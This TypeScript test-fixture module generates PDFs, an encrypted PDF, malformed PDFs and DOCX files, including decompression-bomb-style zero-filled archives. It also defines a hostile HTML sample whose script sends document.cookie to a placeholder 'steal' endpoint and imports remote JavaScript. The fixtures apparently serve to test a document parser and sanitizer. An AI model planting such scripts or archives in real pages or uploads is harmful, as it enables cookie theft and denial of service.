/**
 * Real documents made at test time [LC-4]: a small PDF (hand-written objects,
 * Helvetica text), an encrypted PDF (a Standard security handler whose empty
 * user password does not open it), a DOCX (the three parts Word needs, zipped
 * with fflate), zips that break each DOCX bound, and HTML with scripts.
 */
import { strToU8, zipSync } from "fflate";

function pdfFrom(objs: string[], trailerExtra = ""): Uint8Array {
  let out = "%PDF-1.4\n";
  const offs: number[] = [];
  objs.forEach((o, i) => {
    offs.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const o of offs) out += `${String(o).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R ${trailerExtra}>>\n` +
    `startxref\n${xref}\n%%EOF\n`;
  return new TextEncoder().encode(out);
}

/** A one-page-per-entry PDF whose pages show `lines` (ASCII, no parentheses). */
export function makePdf(pages: string[]): Uint8Array {
  const n = pages.length;
  const objs = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${pages.map((_, i) => `${4 + 2 * i} 0 R`).join(" ")}] /Count ${n} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  pages.forEach((text, i) => {
    const stream = `BT /F1 14 Tf 72 700 Td (${text}) Tj ET`;
    objs.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${
        5 + 2 * i
      } 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
    );
    objs.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
  });
  return pdfFrom(objs);
}

/** A PDF with the Standard security handler: the empty user password does not open it. */
export function makeEncryptedPdf(): Uint8Array {
  const hex32 = "A1".repeat(32);
  return pdfFrom(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
      `<< /Filter /Standard /V 1 /R 2 /O <${hex32}> /U <${hex32}> /P -4 >>`,
    ],
    `/Encrypt 4 0 R /ID [<${"0F".repeat(16)}> <${"0F".repeat(16)}>] `,
  );
}

/** Bytes that start like a PDF and then are not one. */
export function makeMalformedPdf(): Uint8Array {
  return new TextEncoder().encode("%PDF-1.7\n" + "garbage ".repeat(200) + "\n%%EOF\n");
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?>` +
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
  `<Default Extension="xml" ContentType="application/xml"/>` +
  `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
  `</Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8"?>` +
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>` +
  `</Relationships>`;

function documentXml(paragraphs: string[]): string {
  const body = paragraphs.map((p) => `<w:p><w:r><w:t>${p}</w:t></w:r></w:p>`).join("");
  return `<?xml version="1.0" encoding="UTF-8"?>` +
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` +
    `<w:body>${body}</w:body></w:document>`;
}

/** A DOCX with `paragraphs` (XML-safe text); `extra` adds zip members. */
export function makeDocx(
  paragraphs: string[],
  extra: Record<string, Uint8Array> = {},
): Uint8Array {
  return zipSync({
    "[Content_Types].xml": strToU8(CONTENT_TYPES),
    "_rels/.rels": strToU8(RELS),
    "word/document.xml": strToU8(documentXml(paragraphs)),
    ...extra,
  }, { level: 6 });
}

/** A DOCX with `n` members in all (tiny filler parts beyond the three real ones). */
export function makeDocxWithEntries(n: number): Uint8Array {
  const extra: Record<string, Uint8Array> = {};
  for (let i = 0; i < n - 3; i++) extra[`customXml/item${i}.xml`] = strToU8("<a/>");
  return makeDocx(["Many parts"], extra);
}

/** A DOCX with one extra member of `bytes` zero bytes (compresses about 1000:1). */
export function makeDocxWithZeros(bytes: number): Uint8Array {
  return makeDocx(["Zeros"], { "word/media/zeros.bin": new Uint8Array(bytes) });
}

/** HTML with scripts, handlers, styles and a javascript: link around real content. */
export const HOSTILE_HTML = `<!doctype html><html><head><title>T</title>
<script>fetch("http://127.0.0.1:1/steal?c=" + document.cookie)</script>
<style>body { display: none }</style></head>
<body onload="alert('onload')">
<h1>Quarterly report</h1>
<p>Revenue grew <b>12 percent</b> in <a href="https://example.com/q3">Q3</a>.</p>
<p><a href="javascript:alert('link')">click me</a></p>
<img src="x" onerror="alert('img')" alt="chart of revenue">
<noscript>enable scripts</noscript>
<iframe srcdoc="<script>alert('frame')</script>"></iframe>
<script type="module">import("http://127.0.0.1:1/x.js")</script>
</body></html>`;
